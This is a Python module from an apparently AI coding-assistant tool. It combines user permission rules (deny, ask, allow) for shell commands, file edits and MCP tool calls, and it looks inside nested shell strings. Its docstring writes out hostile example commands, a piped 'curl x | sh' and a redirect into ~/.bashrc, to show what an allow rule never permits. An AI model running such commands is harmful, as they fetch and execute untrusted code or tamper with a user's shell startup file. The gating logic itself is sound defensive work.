"""The user's permission rules (Day 14: "KeSi 還沒有規則設定檔" — the promised rule file).

A user-level setting `permissions` with `allow`, `ask` and `deny` lists. A string is a command
pattern (`*` matches anything: `"python -m pytest*"`, `"npm test"`); `"edit:GLOB"` (or
Claude Code's `Edit(GLOB)`, and `Bash(PATTERN)` for commands) is a file glob for edits
(`**` crosses folders; a glob without `/` matches the name at any depth).

How they combine with the seed's order (deny, then ask, then allow):
- the red line is first and no rule can lift it;
- a deny rule denies if any command in the text (a wrapper's, a substitution's, a `sh -c`
  string's) matches it, and beats every allow rule;
- an ask rule asks even for what the read-only list would let run;
- an allow rule lets a command run without asking only when every simple command of it is
  allowed (by a rule or by the read-only list) and the text has nothing the shell would add
  (substitutions, redirections, globs...): `"npm test"` never allows `npm test > ~/.bashrc`
  or `npm test && curl x | sh`.

Rules come from the user's own settings or the editor's initialization options, never from a
folder's settings: a cloned project must not grant itself anything.
"""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Final

from kesi_lsp.catalog import Locale, text
from kesi_lsp.core.permissions.listing import rule_fields
from kesi_lsp.core.permissions.policy import CommandVerdict, classify, shell_features
from kesi_lsp.core.permissions.shellwords import Script, parse
from kesi_lsp.core.settings.permission_rules import RULE_KINDS, PermissionRules, Rule

MAX_NESTING: Final = 3
_SHELLS: Final = frozenset({"sh", "bash", "zsh", "dash", "ksh"})


def judge(
    command: str,
    root: Path,
    home: Path,
    *,
    rules: PermissionRules,
    locale: Locale = "en",
    secrets_masked: bool = False,
) -> CommandVerdict:
    """The classifier's verdict with the user's rules applied (see the module text)."""
    script = parse(command)
    verdict = classify(
        command, root, home, locale=locale, secrets_masked=secrets_masked, script=script
    )
    return apply_rules(
        verdict,
        command,
        root,
        home,
        rules=rules,
        locale=locale,
        secrets_masked=secrets_masked,
        script=script,
    )


def apply_rules(
    verdict: CommandVerdict,
    command: str,
    root: Path,
    home: Path,
    *,
    rules: PermissionRules,
    locale: Locale = "en",
    secrets_masked: bool = False,
    script: Script | None = None,
) -> CommandVerdict:
    """The user's rules on top of the classifier's `verdict` for `command` (`script`: the
    gate's one reading of it, `shellwords.parse`)."""
    if verdict.kind == "deny" or not rules.rules:
        return verdict
    script = parse(command) if script is None else script
    segments = _segments(script, 0)
    for kind in ("deny", "ask"):
        for rule in rules.of(kind, "command"):
            if any(rule.matches(s) for s in _suffixes(segments)) or rule.matches(command.strip()):
                key = (
                    "permissions.reason.rule_denied"
                    if kind == "deny"
                    else "permissions.reason.rule_asks"
                )
                reason = text(key, locale, **rule_fields(rule, locale))
                return CommandVerdict(kind, reason, by="rule")
    if verdict.kind == "allow":
        return verdict
    allowed = _allowed_by_rules(script, root, home, rules, locale, secrets_masked)
    if allowed is not None:
        reason = text("permissions.reason.rule_allows", locale, **rule_fields(allowed, locale))
        return CommandVerdict("allow", reason, by="rule")
    return verdict


def _segments(script: Script, depth: int) -> list[list[str]]:
    """Every simple command's words, the ones in `sh -c '...'` / `eval` strings included."""
    found: list[list[str]] = []
    for words in script.commands:
        texts = [w.text for w in words]
        found.append(texts)
        if depth < MAX_NESTING and texts and (texts[0] in _SHELLS or texts[0] == "eval"):
            for inner in texts[1:]:
                if not inner.startswith("-"):
                    found += _segments(parse(inner), depth + 1)
    return found


def _suffixes(segments: list[list[str]]) -> list[str]:
    """Each command from every word on (`timeout 5 git push` holds `git push`)."""
    return [" ".join(words[i:]) for words in segments for i in range(len(words))]


def _allowed_by_rules(
    script: Script,
    root: Path,
    home: Path,
    rules: PermissionRules,
    locale: Locale,
    secrets_masked: bool,
) -> Rule | None:
    """The allow rule that lets the command run, if every part of it is allowed."""
    if not script.complete or not script.valid or shell_features(script):
        return None
    used: Rule | None = None
    for words in script.commands:
        segment = " ".join(w.text for w in words)
        rule = next((r for r in rules.of("allow", "command") if r.matches(segment)), None)
        if rule is not None:
            used = used or rule
            continue
        alone = classify(
            shlex.join(w.text for w in words),
            root,
            home,
            locale=locale,
            secrets_masked=secrets_masked,
        )
        if alone.kind != "allow":
            return None
    return used


def edit_decision(rules: PermissionRules, relative: str) -> Rule | None:
    """The rule that decides an edit of `relative` (POSIX, inside the workspace): deny first,
    then ask, then allow; None when no rule speaks."""
    for kind in RULE_KINDS:
        for rule in rules.of(kind, "edit"):
            if rule.matches(relative):
                return rule
    return None


COMMAND_KEYS: Final = ("command", "cmd", "script", "shell")


def tool_decision(rules: PermissionRules, subject: str) -> Rule | None:
    """The rule that decides an MCP call of `subject` (`server:tool`): deny beats ask beats
    allow, whatever the order they were written in; None when no rule names it."""
    for kind in RULE_KINDS:
        rule = next((r for r in rules.of(kind, "mcp") if r.matches(subject)), None)
        if rule is not None:
            return rule
    return None


def command_texts(arguments: object, depth: int = 0) -> list[str]:
    """The texts among an MCP call's arguments that a server may hand to a shell: values of
    keys that name a command, a script or a shell, at any depth (a list of words is joined)."""
    found: list[str] = []
    if depth > 5:
        return found
    if isinstance(arguments, dict):
        for key, value in arguments.items():
            named = any(word in str(key).lower() for word in COMMAND_KEYS)
            if named and isinstance(value, str):
                found.append(value)
            elif named and isinstance(value, list) and all(isinstance(v, str) for v in value):
                found.append(shlex.join(value))
            else:
                found += command_texts(value, depth + 1)
    elif isinstance(arguments, list):
        for item in arguments:
            found += command_texts(item, depth + 1)
    return found
